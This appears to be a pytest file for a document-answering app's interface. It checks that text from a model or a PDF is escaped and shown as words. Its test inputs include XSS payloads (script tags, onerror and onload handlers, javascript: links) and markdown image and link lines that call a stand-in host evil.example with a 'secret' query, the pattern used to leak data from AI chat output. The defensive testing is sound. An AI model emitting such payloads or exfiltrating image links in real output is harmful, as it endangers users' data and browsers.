"""Words of models, documents and people are shown as words."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from ingestion.elements import BBox, Chunk, Region
from rag.types import Answer, Citation, Evidence
from ui import messages, safe
from ui.session import Exchange

EVIL = "<img src=x onerror=alert(1)>"


class Tags(HTMLParser):
    """The tags of a text with their attributes, as a browser would read them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        EVIL,
        "</span><form action='http://evil.example'><input></form>",
        "<svg/onload=alert(1)>",
        "![a](http://evil.example/?q=secret)",
        "![a][ref]\n\n[ref]: http://evil.example/a.png",
        "![a](\nhttp://evil.example/a.png)",
        "[click](javascript:alert(1))",
        "[click](http://evil.example)",
        "[1]: http://evil.example",
        "> [1]: http://evil.example",
        "<!-- hidden --> <?php ?>",
        "```mermaid\ngraph TD\n```",
    ],
)
def test_markup_of_a_model_or_a_pdf_stays_words(text: str) -> None:
    shown = safe.markdown(text)
    assert not re.search(r"<[a-zA-Z/!?]", shown)
    assert not re.search(r"(?<!\\)!\[", shown)
    assert "](" not in shown
    assert not re.search(r"^[ >]*\[[^\]]+\]:", shown, re.MULTILINE)
    assert "mermaid" not in shown


def test_plain_formatting_survives() -> None:
    text = "**bold**, *it*, `code`\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 < 2 | x > y |"
    assert safe.markdown(text) == text


def test_citations_become_links_that_name_turn_and_number() -> None:
    text = safe.linked("Turn it left [1]. Not so [2, 3]; unknown [9].", 4, {1: True, 2: True, 3: False})
    assert "left\u00a0[1](#cite-4-1)." in text
    assert '[2](#cite-4-2)[3](#cite-4-3 "not found in the evidence")' in text
    assert "unknown [9]." in text


def test_an_attack_in_name_caption_and_quote_is_only_words() -> None:
    chunk = Chunk("c1", "d1", "figure", EVIL, (Region(1, BBox(10, 10, 60, 60)),), caption=f'Figure 1 "{EVIL}')
    evidence = Evidence(1, chunk, f"{EVIL}.pdf", EVIL, None, None, (100, 100))
    citation = Citation(1, "d1", 1, chunk.bbox, "figure", chunk.caption, EVIL, None, False)
    answer = Answer(f"See {EVIL} [1]", (citation,), (evidence,), False, 2, "m", 0.1, f"Note {EVIL}")
    exchange = Exchange(1, f"{EVIL}?", None, "done", (evidence,), 0.1, answer.text, answer)
    shown = "\n".join(str(message["content"]) for message in messages.conversation([exchange]))
    tags = Tags(shown)
    assert {name for name, _ in tags.found} == {"span", "div", "a", "img"}  # ours: notes and the strip of cut-outs
    assert {key for _, attributes in tags.found for key in attributes} == {"class", "href", "title", "src", "alt"}
    assert [a["src"] for name, a in tags.found if name == "img"] == ["pagesight/cutout/d1/c1"]
    assert "not found in the evidence" in shown
    assert "2 citations" in shown


def test_a_toast_is_escaped() -> None:
    assert "<" not in safe.toast(EVIL)
